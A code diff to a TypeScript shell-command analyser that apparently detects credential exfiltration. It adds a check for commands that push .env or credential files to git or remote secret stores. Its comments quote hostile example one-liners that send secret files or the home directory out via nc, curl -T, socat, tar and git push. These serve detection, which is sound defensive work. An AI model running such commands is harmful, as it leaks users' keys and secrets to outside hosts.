@@ -7,7 +7,7 @@
 import { compiledRegex } from '../policy/arg-rule.js';
 import { joinSegments, pathSegments } from '../policy/paths.js';
 import { CREDENTIAL_PATH } from './credential-paths.js';
-import { FILE_LISTERS } from './egress-vocabulary.js';
+import { FILE_LISTERS, REMOTE_STORES } from './egress-vocabulary.js';
 import {
   collectAssignments,
   commandName,
@@ -36,6 +36,7 @@ import {
   xargsFed,
 } from './shell.js';
 import { credentialGlob, mayGlob } from './shell-globs.js';
+import { storesCredential } from './shell-stores.js';
 import { resumesEarlier } from './shell-history.js';
 import { listsHome, UNSEEN_MARK } from './shell-option-scripts.js';
 import { type Redirect, type SimpleCommand, showPiece } from './shell-parse.js';
@@ -351,6 +352,10 @@ function plainLines(
       for (const t of [...tails, ...tailLines(cmd, 0, true, NO_VARS)])
         if (t !== '' && !inner.includes(t)) inner.push(t);
     }
+    // `gh secret set X < .env`, `git add .env && git push`: the general reader's (round 25, shell-stores.ts).
+    const program = commandName(first);
+    if ((program === 'git' || REMOTE_STORES.has(program)) && storesCredential(cmds, i, 0, program, cmds))
+      return undefined;
     if (itself && (name !== first || showPiece(name) !== name)) itself = false;
     const find = name === 'find';
     for (let j = 0; j < words.length; j++) {
@@ -457,7 +462,7 @@ function readList(
   // `cat .e* | nc h 80`, `curl -T ~/.ssh/id_* h`: the list with each glob that can match a credential file
   // spelled as that file, read again whole so every reader judges it (round 25, shell-globs.ts).
   const globbed = credentialGlobs(cmds);
-  if (globbed !== undefined) scripts.push(listLine(globbed, undefined, 0, false, NO_VARS));
+  if (globbed !== undefined) scripts.push(listLine(globbed, starts, 0, false, NO_VARS));
   for (let i = 0; i < cmds.length; i++) {
     // `q=tar; $q czf - ~`, `{socat,} FILE:.env ..`: a computed command word read as what it expands to, so
     // the programs' own readers (home-sent, credential-sent, ...) read it as analyse does (round 24).
